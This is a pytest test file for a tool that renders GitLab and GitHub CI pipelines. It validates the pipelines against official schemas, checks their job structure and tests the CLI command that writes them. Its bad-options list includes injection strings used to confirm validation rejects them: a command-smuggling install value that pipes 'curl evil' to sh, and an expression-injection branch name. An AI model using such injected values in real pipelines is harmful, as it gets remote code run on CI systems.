"""`shipyard ci gitlab|github`: the rendered pipelines validated with the official schemas
vendored in check-jsonschema (no network), and their shape asserted as data."""

from __future__ import annotations

import copy
import re
import sys
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from ruamel.yaml import YAML

from fixtures.process import run
from shipyard.errors import UsageError
from shipyard.generate.cifiles import PATHS, STAGES, PipelineOptions, Provider, render
from shipyard.generate.files import STAMP_PREFIX

CHECK_JSONSCHEMA = str(Path(sys.executable).with_name("check-jsonschema"))
SCHEMAS: dict[Provider, str] = {"gitlab": "vendor.gitlab-ci", "github": "vendor.github-workflows"}


def load(text: str) -> Any:
    return YAML(typ="safe").load(text)


def dump(data: Any) -> str:
    out = StringIO()
    YAML(typ="safe").dump(data, out)
    return out.getvalue()


def validate(provider: Provider, text: str, tmp_path: Path) -> tuple[bool, str]:
    path = tmp_path / ("pipeline.yml")
    path.write_text(text)
    result = run([CHECK_JSONSCHEMA, "--builtin-schema", SCHEMAS[provider], str(path)],
                 check=False)
    return result.returncode == 0, result.stdout + result.stderr


OPTIONS = [
    pytest.param(PipelineOptions(), id="defaults"),
    pytest.param(PipelineOptions(staging_branches=("develop", "release/next"),
                                 production_branches=("main",), staging="qa",
                                 production="live", install="shipyard[all]>=0.2"), id="custom"),
]


@pytest.mark.parametrize("provider", ["gitlab", "github"])
@pytest.mark.parametrize("options", OPTIONS)
def test_valid_against_official_schema(provider: Provider, options: PipelineOptions,
                                       tmp_path: Path) -> None:
    ok, output = validate(provider, render(provider, options), tmp_path)
    assert ok, output


@pytest.mark.parametrize(("provider", "break_it"), [
    pytest.param("gitlab", lambda d: d["shipyard-deploy-staging"].update(rules="dev"),
                 id="gitlab-rules-not-a-list"),
    pytest.param("gitlab", lambda d: d["shipyard-build"].update(artifacts={"expire_in": []}),
                 id="gitlab-bad-artifacts"),
    pytest.param("github", lambda d: d["jobs"]["build"].pop("runs-on"), id="github-no-runs-on"),
    pytest.param("github", lambda d: d["jobs"]["deploy-staging"].update(environment=[1]),
                 id="github-bad-environment"),
])
def test_schema_check_can_fail(provider: Provider, break_it: Any, tmp_path: Path) -> None:
    """The validation above means something: a broken pipeline is rejected."""
    data = load(render(provider))
    break_it(data)
    ok, _ = validate(provider, dump(data), tmp_path)
    assert not ok


# -- GitLab as data ----------------------------------------------------------------------------


def resolved(data: dict[str, Any], job: str) -> dict[str, Any]:
    """A job with its `extends` chain merged the way GitLab does (deep merge of hashes)."""
    spec = data[job]
    parent = spec.get("extends")
    base = resolved(data, parent) if parent else {}
    return _merge(base, {k: v for k, v in spec.items() if k != "extends"})


def _merge(base: dict[str, Any], over: dict[str, Any]) -> dict[str, Any]:
    out = copy.deepcopy(base)
    for key, value in over.items():
        if isinstance(value, dict) and isinstance(out.get(key), dict):
            out[key] = _merge(out[key], value)
        else:
            out[key] = copy.deepcopy(value)
    return out


GITLAB_JOBS = [
    # (job, stage, needs (job, artifacts), rules' ifs, environment)
    ("shipyard-build", "build", [], ['$CI_PIPELINE_SOURCE == "schedule"', ""], None),
    ("shipyard-test", "test", [("shipyard-build", True)], None, None),
    ("shipyard-publish", "publish", [("shipyard-build", True), ("shipyard-test", False)],
     ['$CI_PIPELINE_SOURCE == "merge_request_event"', "$CI_COMMIT_BRANCH || $CI_COMMIT_TAG"],
     None),
    ("shipyard-deploy-staging", "deploy", [("shipyard-build", True), ("shipyard-publish", False)],
     ['$CI_PIPELINE_SOURCE == "schedule"', '$CI_COMMIT_BRANCH == "dev"'],
     {"name": "staging", "deployment_tier": "staging"}),
    ("shipyard-deploy-production", "deploy",
     [("shipyard-build", True), ("shipyard-publish", False)],
     ['$CI_PIPELINE_SOURCE == "schedule"',
      '$CI_COMMIT_BRANCH == "main" || $CI_COMMIT_BRANCH == "master"'],
     {"name": "production", "deployment_tier": "production"}),
]


@pytest.mark.parametrize(("job", "stage", "needs", "rules", "environment"), GITLAB_JOBS,
                         ids=[j[0] for j in GITLAB_JOBS])
def test_gitlab_jobs(job: str, stage: str, needs: list[tuple[str, bool]],
                     rules: list[str] | None, environment: dict[str, str] | None) -> None:
    data = load(render("gitlab"))
    spec = resolved(data, job)
    assert spec["stage"] == stage
    assert [(n["job"], n["artifacts"]) for n in spec.get("needs", [])] == needs
    assert ([r.get("if", "") for r in spec["rules"]] if "rules" in spec else None) == rules
    assert spec.get("environment") == environment


def test_gitlab_shape() -> None:
    data = load(render("gitlab"))
    assert data["stages"] == list(STAGES)
    concrete = sorted(k for k in data if not k.startswith(".") and k not in ("stages", "variables"))
    assert concrete == ["shipyard-build", "shipyard-deploy-production", "shipyard-deploy-staging",
                        "shipyard-publish", "shipyard-test"]
    hidden = sorted(k for k in data if k.startswith("."))
    assert hidden == [".shipyard-base", ".shipyard-build", ".shipyard-deploy", ".shipyard-docker",
                      ".shipyard-publish", ".shipyard-test"]
    assert all(data[job] == {"extends": f".{job}"} for job in
               ("shipyard-build", "shipyard-test", "shipyard-publish"))


def test_gitlab_passes_the_unique_tag_from_build_to_deploy() -> None:
    data = load(render("gitlab"))
    build = resolved(data, "shipyard-build")
    assert build["script"][1] == ('shipyard build --builder "$SHIPYARD_BUILDER"'
                                  " --archive shipyard-image.tar $SHIPYARD_BUILD_FLAGS")
    assert "shipyard-image.tar" in build["artifacts"]["paths"]
    handoff = build["script"][2]
    assert "SHIPYARD_UNIQUE_TAG=" in handoff and handoff.endswith("> shipyard-build.env")
    assert build["artifacts"]["reports"]["dotenv"] == "shipyard-build.env"
    assert "shipyard-build.json" in build["artifacts"]["paths"]
    assert build["variables"]["GIT_DEPTH"] == "0"
    test = resolved(data, "shipyard-test")
    assert test["script"][-1] == 'shipyard test "$SHIPYARD_IMAGE_REF"'
    assert resolved(data, "shipyard-publish")["script"][-1] == \
        "shipyard publish --archive shipyard-image.tar"
    for env in ("staging", "production"):
        deploy = resolved(data, f"shipyard-deploy-{env}")
        assert deploy["script"][-1] == 'shipyard deploy "$SHIPYARD_ENVIRONMENT" ' \
                                       '"$SHIPYARD_UNIQUE_TAG"'
        assert deploy["variables"]["SHIPYARD_ENVIRONMENT"] == env
        assert deploy["resource_group"] == f"shipyard-deploy-{env}"
        assert deploy["interruptible"] is False
        assert "services" not in deploy  # a deploy needs no Docker engine


def test_gitlab_only_the_test_job_uses_an_engine() -> None:
    """Build and publish go through Buildah and the archive, deploys through ssh: a runner
    with no engine and no privileges runs every job but the test job (issue 18)."""
    data = load(render("gitlab"))
    for job in ("shipyard-build", "shipyard-test", "shipyard-publish",
                "shipyard-deploy-staging", "shipyard-deploy-production"):
        spec = resolved(data, job)
        uses_docker = any(re.search(r"(^|[;|&\s])docker ", line) for line in spec["script"])
        assert uses_docker is (job == "shipyard-test"), (job, spec["script"])
        assert spec["image"] == ("$SHIPYARD_TEST_IMAGE" if job == "shipyard-test"
                                 else "$SHIPYARD_IMAGE")
        assert "services" not in spec


def test_gitlab_include_template(tmp_path: Path) -> None:
    """Used through `include:`: only SHIPYARD_* globals, and an includer's overrides merge."""
    data = load(render("gitlab"))
    assert "include" not in data and "workflow" not in data
    assert all(name.startswith("SHIPYARD_") for name in data["variables"])
    includer = {
        "variables": {"SHIPYARD_INSTALL": "shipyard==9.9"},
        ".shipyard-docker": {"variables": {"DOCKER_HOST": "unix:///d.sock"}},
        "shipyard-deploy-staging": {"rules": [{"if": '$CI_COMMIT_BRANCH == "next"'}]},
        "lint": {"stage": "test", "script": ["make lint"]},
    }
    merged = _merge(data, includer)
    ok, output = validate("gitlab", dump(merged), tmp_path)
    assert ok, output
    assert resolved(merged, "shipyard-test")["variables"]["DOCKER_HOST"] == "unix:///d.sock"
    assert resolved(merged, "shipyard-deploy-staging")["rules"] == [
        {"if": '$CI_COMMIT_BRANCH == "next"'}]
    assert merged["variables"]["SHIPYARD_INSTALL"] == "shipyard==9.9"


# -- GitHub as data -----------------------------------------------------------------------------

GITHUB_JOBS = [
    # (job, needs, if, environment)
    ("build", None, None, None),
    ("test", "build", "needs.build.outputs.unique_tag != ''", None),
    ("publish", ["build", "test"], "(github.event_name == 'push' || github.event_name == "
     "'schedule') && needs.build.outputs.unique_tag != ''", None),
    ("deploy-staging", ["build", "publish"],
     "(github.event_name == 'push' && (github.ref == 'refs/heads/dev')) || (github.event_name "
     "== 'schedule' && needs.build.outputs.unique_tag != '')", "staging"),
    ("deploy-production", ["build", "publish"],
     "github.event_name == 'push' && (github.ref == 'refs/heads/main' || "
     "github.ref == 'refs/heads/master')", "production"),
]


@pytest.mark.parametrize(("job", "needs", "condition", "environment"), GITHUB_JOBS,
                         ids=[j[0] for j in GITHUB_JOBS])
def test_github_jobs(job: str, needs: Any, condition: str | None,
                     environment: str | None) -> None:
    spec = load(render("github"))["jobs"][job]
    assert spec.get("needs") == needs
    assert spec.get("if") == condition
    assert spec.get("environment") == environment


def test_github_shape_and_tag_handoff() -> None:
    data = load(render("github"))
    assert data["on"]["push"]["branches"] == ["dev", "main", "master"]
    assert "pull_request" in data["on"]
    assert data["on"]["schedule"] == [{"cron": "17 4 * * *"}]
    assert data["permissions"] == {}  # each job asks for what it uses
    jobs = data["jobs"]
    assert {name: job["permissions"] for name, job in jobs.items()} == {
        "build": {"contents": "read"}, "test": {"contents": "read"},
        "publish": {"contents": "read", "packages": "write"},
        "deploy-staging": {"contents": "read"}, "deploy-production": {"contents": "read"}}
    assert jobs["build"]["outputs"]["unique_tag"] == "${{ steps.build.outputs.unique_tag }}"
    build_step = next(s for s in jobs["build"]["steps"] if s.get("id") == "build")
    assert build_step["run"].startswith("shipyard build $SHIPYARD_BUILD_FLAGS\n")
    assert '>> "$GITHUB_OUTPUT"' in build_step["run"]
    assert jobs["publish"]["permissions"]["packages"] == "write"
    for env in ("staging", "production"):
        deploy = jobs[f"deploy-{env}"]
        step = deploy["steps"][-1]
        assert step["run"] == f'shipyard deploy {env} "$UNIQUE_TAG"'
        assert step["env"] == {
            "UNIQUE_TAG": "${{ needs.build.outputs.unique_tag }}",
            "SSH_AUTH": "${{ secrets.SSH_AUTH }}",
            "SSH_KNOWN_HOSTS": "${{ vars.SSH_KNOWN_HOSTS }}",
            "SSH_DEPLOY_TARGET": "${{ vars.SSH_DEPLOY_TARGET }}",
        }
        assert deploy["concurrency"] == {"group": f"shipyard-deploy-{env}",
                                         "cancel-in-progress": False}
    runs = [s["run"] for job in jobs.values() for s in job["steps"] if "run" in s]
    assert runs and not any("${{" in script for script in runs)  # no expression injection


def test_custom_options_reach_both_pipelines() -> None:
    options = PipelineOptions(staging_branches=("develop",), production_branches=("release",),
                              staging="qa", production="live")
    gitlab = load(render("gitlab", options))
    assert gitlab["shipyard-deploy-qa"]["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "schedule"'},
                                                     {"if": '$CI_COMMIT_BRANCH == "develop"'}]
    assert gitlab["shipyard-deploy-live"]["environment"]["name"] == "live"
    github = load(render("github", options))
    assert github["on"]["push"]["branches"] == ["develop", "release"]
    assert github["jobs"]["deploy-live"]["if"] == (
        "github.event_name == 'push' && (github.ref == 'refs/heads/release')")


BAD_OPTIONS = [
    ("overlap", {"staging_branches": ("main",)}, "would deploy to both environments"),
    ("same-environment", {"production": "staging"}, "must be different environments"),
    ("bad-environment", {"staging": "qa env"}, "staging environment name 'qa env' is not valid"),
    ("quote-in-branch", {"staging_branches": ('dev"',)}, "is not a plain branch name"),
    ("expression-in-branch", {"staging_branches": ("dev' || true || '",)},
     "is not a plain branch name"),
    ("no-branch", {"production_branches": ()}, "no production branch given"),
    ("quote-in-install", {"install": 'x"; curl evil | sh; "'}, "has characters"),
]


@pytest.mark.parametrize(("change", "message"), [b[1:] for b in BAD_OPTIONS],
                         ids=[b[0] for b in BAD_OPTIONS])
def test_bad_options(change: dict[str, Any], message: str) -> None:
    with pytest.raises(UsageError, match=message):
        render("gitlab", PipelineOptions(**change))


# -- the command ------------------------------------------------------------------------------


@pytest.mark.parametrize("provider", ["gitlab", "github"])
def test_command_prints_and_writes_without_losing_edits(provider: Provider,
                                                        tmp_path: Path) -> None:
    from shipyard.commands.deploy import ci_group

    runner = CliRunner()
    printed = runner.invoke(ci_group, [provider, "-C", str(tmp_path)])
    assert printed.exit_code == 0 and printed.stdout == render(provider)
    assert not (tmp_path / PATHS[provider]).exists()

    written = runner.invoke(ci_group, [provider, "-C", str(tmp_path), "--write"])
    assert written.exit_code == 0, written.output
    path = tmp_path / PATHS[provider]
    text = path.read_text()
    assert text.startswith(STAMP_PREFIX) and text.endswith(render(provider))
    assert load(text) == load(render(provider))

    again = runner.invoke(ci_group, [provider, "-C", str(tmp_path), "--write"])
    assert again.exit_code == 0 and "unchanged" in again.stderr

    path.write_text(text + "# my own job\n")
    refused = runner.invoke(ci_group, [provider, "-C", str(tmp_path), "--write",
                                       "--staging-branch", "develop"])
    assert isinstance(refused.exception, UsageError)
    assert path.read_text().endswith("# my own job\n")

    forced = runner.invoke(ci_group, [provider, "-C", str(tmp_path), "--write", "--force",
                                      "--staging-branch", "develop"])
    assert forced.exit_code == 0, forced.output
    assert "develop" in path.read_text() and "# my own job" not in path.read_text()


def test_handoff_commands_produce_the_variables(tmp_path: Path) -> None:
    """Run the build jobs' own one-liners on a build report: what later jobs will see."""
    report = ('{"unique_tag": "dev-1a2b3c4-20250131T120000Z", '
              '"repository": "registry.example.com/acme/web", "refs": []}')
    (tmp_path / "shipyard-build.json").write_text(report)
    gitlab = resolved(load(render("gitlab")), "shipyard-build")["script"][2]
    run(["sh", "-c", gitlab.replace("python3 ", f"{sys.executable} ", 1)], cwd=tmp_path)
    assert (tmp_path / "shipyard-build.env").read_text().splitlines() == [
        "SHIPYARD_UNIQUE_TAG=dev-1a2b3c4-20250131T120000Z",
        "SHIPYARD_IMAGE_REF=registry.example.com/acme/web:dev-1a2b3c4-20250131T120000Z"]
    step = next(s for s in load(render("github"))["jobs"]["build"]["steps"]
                if s.get("id") == "build")
    line = step["run"].splitlines()[1].replace("python ", f"{sys.executable} ", 1)
    assert "GITHUB_OUTPUT" in line
    output = tmp_path / "github_output"
    run(["sh", "-c", line], cwd=tmp_path, env={"GITHUB_OUTPUT": str(output),
                                                "PATH": "/usr/bin:/bin"})
    assert output.read_text().splitlines() == [
        "unique_tag=dev-1a2b3c4-20250131T120000Z",
        "image=registry.example.com/acme/web:dev-1a2b3c4-20250131T120000Z"]
